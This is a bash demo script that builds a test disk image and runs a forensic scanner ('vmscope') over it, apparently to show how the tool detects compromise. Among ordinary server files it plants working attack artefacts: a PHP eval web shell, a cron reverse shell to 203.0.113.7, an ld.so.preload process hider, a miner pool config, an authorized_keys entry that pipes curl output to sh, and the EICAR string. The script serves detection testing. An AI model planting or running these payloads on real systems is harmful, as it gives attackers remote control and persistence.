#!/usr/bin/env bash
# make demo: builds a small guest disk (qcow2 over GPT + ext4) with a few
# planted artefacts among ordinary files, then runs vmscope info, ls, cat and
# scan (with the embedded default rules) on it.
set -euo pipefail
cd "$(dirname "$0")/.."
export PATH=$PATH:/usr/sbin:/sbin
V=bin/vmscope
out=bin/demo
rm -rf "$out"
mkdir -p "$out/tree"
t=$out/tree

# An ordinary little server.
mkdir -p "$t"/{etc/cron.d,etc/ssh,root/.ssh,home/alice/.ssh,var/www/html/uploads,var/log,usr/local/bin,tmp/.cache}
printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n' > "$t/etc/passwd"
printf 'demo-web-01\n' > "$t/etc/hostname"
printf 'PermitRootLogin prohibit-password\nPasswordAuthentication no\n' > "$t/etc/ssh/sshd_config"
printf '<?php echo "Hello from demo-web-01"; ?>\n' > "$t/var/www/html/index.php"
for i in $(seq 1 200); do printf '10.0.0.%d - - [25/Nov/2026:10:%02d:00 +0000] "GET /index.php HTTP/1.1" 200 27\n' $((i % 250)) $((i % 60)); done > "$t/var/log/access.log"
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBx0demoalicekeyxxxxxxxxxxxxxxxxxxxxxxxxxxx alice@laptop\n' > "$t/home/alice/.ssh/authorized_keys"
# Planted artefacts.
printf '<?php @eval(base64_decode($_POST["x"])); ?>\n' > "$t/var/www/html/uploads/thumb.php"
printf '*/5 * * * * root /bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"\n' > "$t/etc/cron.d/sysupdate"
printf '/usr/local/lib/libprocesshider.so\n' > "$t/etc/ld.so.preload"
cat > "$t/tmp/.cache/config.json" <<'JSON'
{
    "autosave": true,
    "donate-level": 1,
    "cpu": { "enabled": true, "max-threads-hint": 75 },
    "pools": [ { "url": "stratum+tcp://pool.example.net:3333", "user": "4AdemoWALLETaddress", "pass": "x", "keepalive": true } ]
}
JSON
printf 'command="/bin/sh -c \\"curl -s http://203.0.113.7/x | sh\\"",no-pty ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQdemoattackerkey root@kali\n' > "$t/root/.ssh/authorized_keys"
printf 'X5O!P%%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > "$t/home/alice/eicar.com"

mkfs.ext4 -q -F -E root_owner=0:0 -L demo-root -d "$t" -t ext4 -b 4096 "$out/root.img" 64M 2>&1 | grep -v '^Creating regular file' >&2 || true
truncate -s 80M "$out/disk.raw"
sfdisk -q "$out/disk.raw" <<'PT'
label: gpt
start=2048, size=131072, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name="root"
PT
dd if="$out/root.img" of="$out/disk.raw" bs=1M seek=1 conv=notrunc,sparse status=none
qemu-img convert -f raw -O qcow2 "$out/disk.raw" "$out/demo.qcow2"
rm -f "$out/root.img" "$out/disk.raw"

echo "== vmscope info $out/demo.qcow2"
$V info "$out/demo.qcow2"
echo
echo "== vmscope ls -rl $out/demo.qcow2 /etc"
$V ls -rl "$out/demo.qcow2" /etc
echo
echo "== vmscope cat $out/demo.qcow2 /etc/ld.so.preload"
$V cat "$out/demo.qcow2" /etc/ld.so.preload
echo
echo "== vmscope scan $out/demo.qcow2   (embedded default rules; exit 1 = findings)"
status=0
$V scan "$out/demo.qcow2" || status=$?
[ "$status" -eq 1 ] || { echo "demo: expected findings (exit 1), got exit $status" >&2; exit 1; }
